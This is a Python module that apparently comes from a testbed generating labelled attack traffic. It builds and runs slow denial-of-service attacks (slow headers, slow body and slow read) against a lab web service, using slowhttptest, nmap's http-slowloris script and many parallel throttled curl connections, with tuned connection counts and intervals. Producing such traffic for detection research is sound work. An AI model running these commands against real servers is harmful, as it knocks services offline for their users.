"""Slow denial of service: connections that are begun, kept, and never quite used."""

from training.testbed.acts import Kind, Stage
from training.testbed.attackers.drawing import about, address, bracketed, one

MODES = {"headers": "-H", "body": "-B", "read": "-X"}


def slowhttptest(stage: Stage, mode: str) -> None:
    """Keep connections open by headers, a body or reading at a snail's pace, with slowhttptest."""
    seconds = about(stage, "seconds", 0.15)
    words = ["slowhttptest", MODES[mode], "-c", str(about(stage, "connections")), "-r", str(about(stage, "rate"))]
    words += ["-l", str(seconds), "-p", "3", "-u", url(stage, mode)]
    if mode == "read":
        # A receive window of a few bytes, out of which a few are read now and then.
        low = stage.rng.randint(1, 64)
        words += ["-w", str(low), "-y", str(low + stage.rng.randint(8, 512)), "-n", str(one(stage, "interval"))]
        words += ["-z", str(stage.rng.randint(4, 64)), "-k", str(stage.rng.randint(1, 3))]
    else:
        words += ["-i", str(one(stage, "interval")), "-x", str(stage.rng.randint(8, 60))]
        words += ["-s", str(stage.rng.randint(4_096, 65_536))] if mode == "body" else []
        words += ["-t", stage.rng.choice(("GET", "POST", "HEAD"))] if mode == "headers" else []
    stage.run(*words, limit_s=seconds + 10, ok=None)


def url(stage: Stage, mode: str) -> str:
    """Return what to ask for: any page for headers, an upload for a body, something large to read."""
    path = {"headers": "/", "body": "/upload", "read": str(one(stage, "path"))}[mode]
    return f"{one(stage, 'scheme')}://{bracketed(address(stage))}{path}"


def nmap(stage: Stage) -> None:
    """Keep connections open by unfinished headers, with the slowloris script of nmap."""
    seconds = about(stage, "seconds", 0.15)
    words = ["nmap", "-n", "-Pn", "-p", "80", "--max-parallelism", str(about(stage, "connections"))]
    words += ["--script", "http-slowloris"]
    words += [
        "--script-args",
        f"http-slowloris.timelimit={seconds}s,http-slowloris.send_interval={one(stage, 'interval')}s",
    ]
    stage.run(*words, address(stage), limit_s=seconds + 10, ok=None)


def curl(stage: Stage) -> None:
    """Read at a few bytes a second on many connections, with curl."""
    count, seconds = about(stage, "connections"), about(stage, "seconds", 0.15)
    lines = [f'url = "{url(stage, "read")}?{number}"\noutput = "/dev/null"' for number in range(count)]
    (stage.folder / "many").write_text("\n".join(lines) + "\n")
    words = ["curl", "-s", "-k", "-g", "--http1.1", "--parallel", "--parallel-immediate"]
    words += ["--parallel-max", str(count), "--max-time", str(seconds), "--limit-rate", str(about(stage, "bytes"))]
    stage.run(*words, "-K", str(stage.folder / "many"), limit_s=seconds + 10, ok=None)


def slow_headers(stage: Stage) -> None:
    """Never finish the headers."""
    if one(stage, "tool") == "nmap":
        nmap(stage)
    else:
        slowhttptest(stage, "headers")


def slow_body(stage: Stage) -> None:
    """Never finish the body."""
    slowhttptest(stage, "body")


def slow_read(stage: Stage) -> None:
    """Never finish reading."""
    if one(stage, "tool") == "curl":
        curl(stage)
    else:
        slowhttptest(stage, "read")


COMMON = {
    "target": "web",
    "scheme": "http",
    "path": ["/files/0.bin", "/files/1.bin", "/drip/2.bin"],  # what slow reading asks for
    "connections": 40,  # median, each is a flow
    "rate": 20,  # new connections per second
    "seconds": 20,  # how long all of it lasts
    "interval": 3,  # seconds between two bits of a connection
}
KINDS = (
    Kind(
        name="slow-headers",
        label="slowdos",
        play=slow_headers,
        needs={"slowhttptest": "slowhttptest", "nmap": "nmap"},
        services=("web",),
        lasts_s=22,
        limit_s=60,
        settings={**COMMON, "tool": "slowhttptest"},  # or nmap
    ),
    Kind(
        name="slow-body",
        label="slowdos",
        play=slow_body,
        needs={"slowhttptest": "slowhttptest"},
        services=("web",),
        lasts_s=22,
        limit_s=60,
        settings=COMMON,
    ),
    Kind(
        name="slow-read",
        label="slowdos",
        play=slow_read,
        needs={"slowhttptest": "slowhttptest", "curl": "curl"},
        services=("web",),
        lasts_s=22,
        limit_s=60,
        settings={**COMMON, "tool": "slowhttptest", "bytes": 100},  # or curl, so many bytes a second
    ),
)
